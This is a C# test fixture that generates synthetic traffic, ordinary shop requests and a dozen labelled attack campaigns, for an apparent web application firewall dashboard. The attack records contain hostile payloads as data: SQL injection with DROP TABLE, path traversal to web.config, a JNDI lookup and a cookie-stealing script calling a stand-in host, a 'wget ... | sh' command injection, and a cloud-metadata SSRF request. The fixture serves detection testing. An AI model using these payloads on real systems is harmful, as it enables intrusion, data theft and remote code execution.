using System.Collections.Immutable;
using System.Globalization;
using Sakimori.Domain;

namespace Sakimori.Web.Tests;

/// <summary>Four hours of three Japanese shops: customers, crawlers, a dozen attacks and one false alarm. The same seed gives the same traffic.</summary>
internal sealed class DemoTraffic(DateTimeOffset end, int seed = 20261123)
{
    private const string Firefox = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Firefox/140.0";
    private const string Phone = "Mozilla/5.0 (iPhone; CPU iPhone OS 19_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148";

    private static readonly string[] s_shop =
    [
        "/index.do", "/item/list.do?category=yunomi", "/item/detail.do?id=10482", "/search.do?q=湯のみ", "/search.do?q=急須 有田焼", "/cart/add.do?id=10482&count=2",
        "/cart/view.do", "/order/confirm.do", "/member/login.do", "/news/20261120.html", "/img/top/kv.jpg", "/css/base.css",
    ];

    private static readonly string[] s_portal = ["/default.asp", "/order/list.asp?page=1", "/order/entry.asp", "/invoice/download.asp?no=2026-11-0412", "/login.asp", "/master/item.asp?code=A-3301"];
    private static readonly string[] s_recruit = ["/index.php", "/entry.php", "/jobs.php?area=osaka", "/jobs.php?area=tokyo&type=eigyo", "/contact.php", "/assets/main.js"];
    private readonly Random _random = new(seed);
    private int _number;

    /// <summary>Ordinary requests.</summary>
    public IEnumerable<TransactionRecord> Customers(int count)
    {
        for (var i = 0; i < count; i++)
        {
            // More of it lately, and a lunch hour.
            var age = TimeSpan.FromMinutes(240 * Math.Pow(_random.NextDouble(), 1.6));
            var site = _random.Next(10) switch { < 6 => "shop", < 8 => "portal", _ => "recruit" };
            var targets = site switch { "shop" => s_shop, "portal" => s_portal, _ => s_recruit };
            var target = targets[_random.Next(targets.Length)];
            var duration = (long)(4_000 * Math.Exp(_random.NextDouble() * 3.2));
            yield return new()
            {
                Id = NextId(),
                Time = end - age,
                Site = site,
                Client = string.Create(CultureInfo.InvariantCulture, $"198.51.100.{_random.Next(1, 250)}"),
                Method = target.Contains("entry", StringComparison.Ordinal) || target.Contains("login", StringComparison.Ordinal) ? "POST" : "GET",
                Host = $"{site}.example.co.jp",
                Target = target,
                Mode = site == "portal" ? SiteMode.Observe : SiteMode.Protect,
                Outcome = _random.Next(400) == 0 ? TransactionOutcome.Failed : TransactionOutcome.Forwarded,
                Status = 200,
                RuleSetVersion = "starter-2026.11+crs-4.29",
                InspectionMicroseconds = _random.Next(60, 420),
                DurationMicroseconds = duration,
                Charset = site switch { "shop" => "shift_jis", "portal" => "euc-jp", _ => "utf-8" },
                UserAgent = _random.Next(3) == 0 ? Phone : Firefox,
            };
        }
    }

    /// <summary>The attacks and the false alarm, oldest first.</summary>
    public ImmutableArray<TransactionRecord> Attacks()
    {
        var all = new List<TransactionRecord>();
        void Campaign(int count, double fromMinutesAgo, double overMinutes, Func<int, TransactionRecord> make)
        {
            for (var i = 0; i < count; i++)
            {
                all.Add(make(i) with { Id = NextId(), Time = end - TimeSpan.FromMinutes(fromMinutesAgo - (overMinutes * (i + (_random.NextDouble() * 0.6)) / count)) });
            }
        }

        string[] injections = ["' UNION SELECT 会員番号,氏名,パスワード FROM 会員--", "1' OR '1'='1", "'; WAITFOR DELAY '0:0:5'--", "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0", "' ORDER BY 12--"];
        Campaign(380, 52, 14, i => Attack("shop", "203.0.113.66", "GET", "/search.do", "q", injections[i % injections.Length], 100110, "SQL injection in a value", AttackFamily.SqlInjection, "sqlmap/1.9.11#stable"));
        Campaign(46, 21, 9, i => Attack("portal", "203.0.113.141", "GET", "/invoice/download.asp", "no", $"..{new string('/', i % 3)}/..\\..\\inetpub\\wwwroot\\web.config", 100310, "Path leads out of its folder", AttackFamily.PathTraversal, "curl/8.14"));
        Campaign(64, 118, 95, i => Attack("recruit", $"192.0.2.{20 + (i % 37)}", "GET", "/index.php", "REQUEST_HEADERS:User-Agent", "${jndi:ldap://198.18.0.9:1389/Exploit}", 100710, "Expression language or JNDI look-up", AttackFamily.TemplateInjection, "${jndi:ldap://198.18.0.9:1389/Exploit}"));
        Campaign(17, 34, 6, i => Attack("recruit", "203.0.113.19", "POST", "/contact.php", "naiyou", "お問い合わせです<script>document.location='//198.18.0.9/'+document.cookie</script>", 100210, "Script in a value", AttackFamily.CrossSiteScripting, Firefox));
        Campaign(31, 190, 12, i => Attack("shop", "192.0.2.201", "GET", "/cgi-bin/mail.cgi", "to", "info@example.co.jp;wget http://198.18.0.9/x.sh -O-|sh", 100410, "Operating-system command", AttackFamily.CommandInjection, "python-requests/2.32"));
        Campaign(240, 88, 22, i => Attack("shop", "203.0.113.77", "GET", $"/{(i % 3 == 0 ? "admin" : "old")}/{i % 80}.bak", "REQUEST_HEADERS:User-Agent", "Nikto/2.6.0", 101310, "A scanner's name", AttackFamily.Scanner, "Nikto/2.6.0"));
        Campaign(9, 63, 4, i => Attack("portal", "203.0.113.142", "POST", "/order/entry.asp", "callback", "http://169.254.169.254/latest/meta-data/iam/", 100610, "Request to an inside address", AttackFamily.ServerSideRequest, "Go-http-client/2.0"));
        Campaign(5, 40, 30, i => Attack("shop", "198.51.100.34", "POST", "/member/inquiry.do", "comment", "カタログの select 欄で「or 1 個」を選べません。from 以降が表示されないのですが…", 100112, "SQL comment or stacked query", AttackFamily.SqlInjection, Firefox, score: 5));
        Campaign(3, 15, 2, i => Attack("portal", "198.51.100.88", "GET", "/order/list.asp", "page", "Microsoft OLE DB Provider for ODBC Drivers error '80040e14'", 101510, "Database error in the answer", AttackFamily.DataLeak, Firefox) with { InboundScore = 0, OutboundScore = 5 });
        Campaign(12, 150, 3, i => Attack("shop", "192.0.2.155", "POST", "/cart/add.do", "REQUEST_HEADERS:Content-Length", "0, 44", 101210, "Header field that must not repeat", AttackFamily.Protocol, "-"));
        Campaign(26, 6, 5, i => Attack("shop", "203.0.113.201", "GET", "/item/detail.do", "id", i % 2 == 0 ? "10482 UNION ALL SELECT NULL,NULL,@@version--" : "10482;DROP TABLE 受注--", 100110, "SQL injection in a value", AttackFamily.SqlInjection, Firefox));
        Campaign(8, 105, 50, i => Attack("recruit", $"192.0.2.{90 + i}", "POST", "/entry.php", "shibou", "<img src=x onerror=alert(1)>", 100210, "Script in a value", AttackFamily.CrossSiteScripting, Phone));
        return [.. all.OrderBy(transaction => transaction.Time)];
    }

    /// <summary>One detection with its evidence.</summary>
    public TransactionRecord Attack(
        string site, string client, string method, string path, string parameter, string value, long rule, string message, AttackFamily family, string agent, int score = 5)
    {
        var isHeader = parameter.StartsWith("REQUEST_HEADERS", StringComparison.Ordinal);
        var isPost = method == "POST" && !isHeader;
        var target = isHeader || isPost ? path : $"{path}?{parameter}={Uri.EscapeDataString(value)}";
        var variable = family == AttackFamily.DataLeak ? "RESPONSE_BODY" : isHeader ? parameter : $"ARGS:{parameter}";
        var isObserve = site == "portal";
        var found = value.Length > 24 ? value.Substring(value.Length / 4, value.Length / 2) : value;
        return new()
        {
            Id = NextId(),
            Time = end,
            Site = site,
            Client = client,
            Method = method,
            Host = $"{site}.example.co.jp",
            Target = target,
            Mode = isObserve ? SiteMode.Observe : SiteMode.Protect,
            Outcome = isObserve ? TransactionOutcome.Forwarded : TransactionOutcome.Blocked,
            Status = isObserve ? 200 : 403,
            WouldBlock = isObserve,
            DecidingRule = rule,
            InboundScore = score,
            Family = family,
            RuleSetVersion = "starter-2026.11+crs-4.28",
            InspectionMicroseconds = _random.Next(150, 900),
            DurationMicroseconds = _random.Next(900, 4_000),
            RequestBytes = isPost ? value.Length * 2 : 0,
            Charset = site switch { "shop" => "shift_jis", "portal" => "euc-jp", _ => "utf-8" },
            UserAgent = agent,
            Headers =
            [
                new("Host", $"{site}.example.co.jp"), new("User-Agent", agent), new("Accept", "*/*"), new("Accept-Language", "ja"), new("Cookie", "JSESSIONID=********"),
            ],
            Body = isPost ? $"{parameter}={Uri.EscapeDataString(value)}&token=********" : null,
            Detections =
            [
                new()
                {
                    RuleId = rule, Phase = family == AttackFamily.DataLeak ? 4 : 2, Target = variable, Value = value, Operator = "@rx (?i)union|select|…", Message = message,
                    Data = $"{found} found in {variable}", Severity = 2, Score = score, Tags = [$"attack-{family.Text()}", "attack/T1190"],
                    File = DemoRules.All.FirstOrDefault(known => known.Id == rule)?.File ?? "local.conf", Line = 18, IsDisruptive = true,
                },
            ],
        };
    }

    private string NextId() => string.Create(CultureInfo.InvariantCulture, $"7Q{seed % 1000:D3}{++_number:D6}K");
}
